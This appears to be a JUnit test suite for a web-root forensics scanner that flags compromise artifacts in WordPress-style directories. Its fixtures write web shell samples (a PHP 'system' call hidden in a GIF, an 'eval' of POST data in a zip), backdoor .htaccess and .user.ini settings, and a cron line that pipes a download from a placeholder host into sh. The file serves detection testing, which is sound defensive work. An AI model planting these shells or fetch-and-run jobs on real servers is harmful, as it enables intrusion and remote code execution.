package org.evenkeel.forensics.webroot;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.evenkeel.forensics.investigation.Artifact;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class WebRootTest {
  @TempDir Path root;

  private void write(String path, String text) throws IOException {
    Path file = root.resolve(path);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text, java.nio.charset.StandardCharsets.ISO_8859_1);
  }

  private WebRoot.Report search(Path... manifests) throws InterruptedException {
    return WebRoot.search(List.of(root), List.of(manifests), Clock.systemUTC(), tree -> {});
  }

  @Test
  void aProgramAmongUploadsIsTold() throws Exception {
    write("wp-content/uploads/2026/01/a.php", "<?php mail('a@b.invalid', 'x', 'y');");
    write("wp-content/uploads/index.php", "<?php // Silence is golden.");

    assertThat(search().artifacts()).extracting(Artifact::kind).containsExactly("dropper");
  }

  @Test
  void aPictureWithAProgramIsTold() throws Exception {
    write("img/logo.gif", "GIF89a;\u0000<?php system($_GET['c']);");
    write("img/plain.gif", "GIF89a;\u0000nothing");

    assertThat(search().artifacts()).hasSize(1);
  }

  @Test
  void settingsThatRunPicturesAreTold() throws Exception {
    write("a/.htaccess", "AddType application/x-httpd-php .jpg .png\n");
    write("b/.user.ini", "auto_prepend_file = '/tmp/.x.ico'\n");
    write("c/.user.ini", "auto_prepend_file = '/var/www/wordfence-waf.php'\n");

    assertThat(search().artifacts())
        .extracting(Artifact::kind)
        .containsExactly("backdoor-config", "backdoor-config");
  }

  @Test
  void aJobThatFetchesAndRunsIsTold() throws Exception {
    write(
        "var/spool/cron/www-data",
        "*/5 * * * * curl -s http://x.invalid/a | sh\n0 3 * * * php bin/cron.php\n");

    assertThat(search().artifacts()).extracting(Artifact::kind).containsExactly("cron-job");
  }

  @Test
  void aChangedFileOfAReleaseIsTold() throws Exception {
    for (int i = 0; i < 20; i++) {
      write("wp-includes/f" + i + ".php", "<?php $a = 1;");
    }
    write("wp-includes/f7.php", "<?php $a = 2;");
    Path list = Files.createTempFile("manifest", ".txt");
    StringBuilder lines = new StringBuilder();
    for (int i = 0; i < 20; i++) {
      lines.append(md5("<?php $a = 1;")).append("  wp-includes/f").append(i).append(".php\n");
    }
    Files.writeString(list, lines);

    assertThat(search(list).artifacts())
        .singleElement()
        .satisfies(artifact -> assertThat(artifact.where()).endsWith("f7.php"));
  }

  private static String md5(String text) throws Exception {
    byte[] digest =
        java.security.MessageDigest.getInstance("MD5")
            .digest(text.getBytes(java.nio.charset.StandardCharsets.UTF_8));
    return java.util.HexFormat.of().formatHex(digest);
  }

  @Test
  void theOddCopyOfAReleaseIsTold() throws Exception {
    for (String store : List.of("a", "b", "c", "d")) {
      write(store + "/wp-includes/version.php", "<?php $wp_version = '6.8';");
      write(store + "/wp-includes/load.php", store.equals("c") ? "<?php $a = 2;" : "<?php $a = 1;");
    }

    assertThat(search().artifacts())
        .singleElement()
        .satisfies(artifact -> assertThat(artifact.where()).contains("/c/"));
  }

  @Test
  void filesInAZipAreSearched() throws Exception {
    Path zip = root.resolve("backup.zip");
    try (OutputStream out = Files.newOutputStream(zip);
        ZipOutputStream entries = new ZipOutputStream(out)) {
      entries.putNextEntry(new ZipEntry("html/x.php"));
      entries.write("<?php eval($_POST['x']);".getBytes(java.nio.charset.StandardCharsets.UTF_8));
    }

    assertThat(WebRoot.search(List.of(zip), List.of(), Clock.systemUTC(), tree -> {}).artifacts())
        .singleElement()
        .satisfies(artifact -> assertThat(artifact.where()).endsWith("backup.zip/html/x.php"));
  }

  @Test
  void linksInARingAreNotFollowed() throws Exception {
    write("a/x.txt", "x");
    Files.createSymbolicLink(root.resolve("a/ring"), root);

    assertThat(search().files()).isEqualTo(1);
  }
}
